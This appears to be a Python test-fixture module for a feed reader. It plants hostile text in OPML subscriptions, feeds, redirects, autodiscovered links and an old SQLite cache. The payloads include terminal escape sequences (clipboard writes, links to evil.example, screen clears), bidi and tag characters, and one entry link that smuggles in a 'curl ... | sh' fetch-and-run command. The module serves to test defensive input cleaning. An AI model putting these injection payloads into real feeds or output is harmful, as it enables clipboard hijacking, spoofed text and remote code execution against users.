"""A hostile subscription file and a hostile cache: what a shared OPML, a redirect, an
autodiscovered link or an old cache (written before text was cleaned on the way in) can hold."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from xml.sax.saxutils import escape

from feedgen import rss

# Each wraps a visible word; all of it must vanish but the word.
HOSTILE_TEXT = {
    "osc52": "\x1b]52;c;ZXZpbA==\x07CLIP",
    "osc8": "\x1b]8;;http://evil.example/\x1b\\LINK\x1b]8;;\x1b\\",
    "c1_osc52": "\x9d52;c;ZXZpbA==\x9cCONE",
    "csi": "\x1b[2J\x1b[HHOME",
    "alm": "ARABIC\u061cMARK",
    "tags": "TAG\U000e0069\U000e0067\U000e006eCHARS",
    "bidi": "\u202eEXE.TXT",
}
# As an XML 1.0 document may carry them in attributes: C0 controls only as character
# references (which lxml's recovering parser keeps), the rest as is.
OPML_TEXT = {k: v.replace("\x1b", "&#27;").replace("\x07", "&#7;") for k, v in HOSTILE_TEXT.items()}


def hostile_opml(server) -> str:
    outlines = [
        f'<outline text="{OPML_TEXT[k]}" title="{OPML_TEXT[k]}" type="rss" '
        f'xmlUrl="{escape(server.url(f"/h/{k}.xml"))}"/>'
        for k in HOSTILE_TEXT
    ]
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<opml version="2.0"><head><title>x</title></head>'
        f'<body><outline text="{OPML_TEXT["osc52"]}">' + "".join(outlines) + "</outline>"
        "</body></opml>\n"
    )


def hostile_feeds(server) -> None:
    """A feed per outline, its title and entries hostile too."""
    for k, text in HOSTILE_TEXT.items():
        items = [{"title": f"{text} {k} entry", "guid": f"{k}-1", "summary": text, "credit": text}]
        server.add(f"/h/{k}.xml", rss(text, items))


def hostile_server(server) -> dict[str, str]:
    """Routes that plant controls in a source URL: a redirect, an autodiscovered link."""
    feed = server.add("/clean.xml", rss("Clean", [{"title": "Clean entry", "guid": "c"}]))
    location = "/moved\x9d52;c;ZXZpbA==\x9c.xml"
    server.add("/moved.xml", b"", status=301, headers={"Location": location})
    page = (
        "<html><head>"
        '<link rel="alternate" type="application/rss+xml" href="/feed&#x9d;52;c;eA==&#x9c;.xml">'
        '<link rel="alternate" type="application/rss+xml" href="/feed&#10;evil.xml">'
        f'<link rel="alternate" type="application/rss+xml" href="{feed}">'
        "</head><body>page</body></html>"
    )
    return {
        "moved": server.url("/moved.xml"),
        "page": server.add("/page.html", page, content_type="text/html"),
        "clean": feed,
    }


def poison_cache(db_path: Path) -> None:
    """What a cache written before cleaning on the way in may hold: raw controls in titles,
    folders, errors, a source URL, entry titles, authors and links."""
    raw = " ".join(HOSTILE_TEXT.values())
    db = sqlite3.connect(db_path)
    with db:
        db.execute(
            "UPDATE sources SET title_override = ?, folder = ?, last_error = ?, site_link = ?",
            (raw, raw, raw, "http://x.example/\x1b]52;c;eA==\x07"),
        )
        db.execute(
            "INSERT INTO sources (url, title, added) VALUES (?, ?, 0)",
            ("http://127.0.0.1:9/\x1b]52;c;ZXZpbA==\x07old", raw),
        )
        db.execute(
            "UPDATE entries SET title = ?, author = ?, link = ?",
            (raw, raw, "http://x.example/a\ncurl\t-s\thttp://x.example/x|sh"),
        )
    db.close()
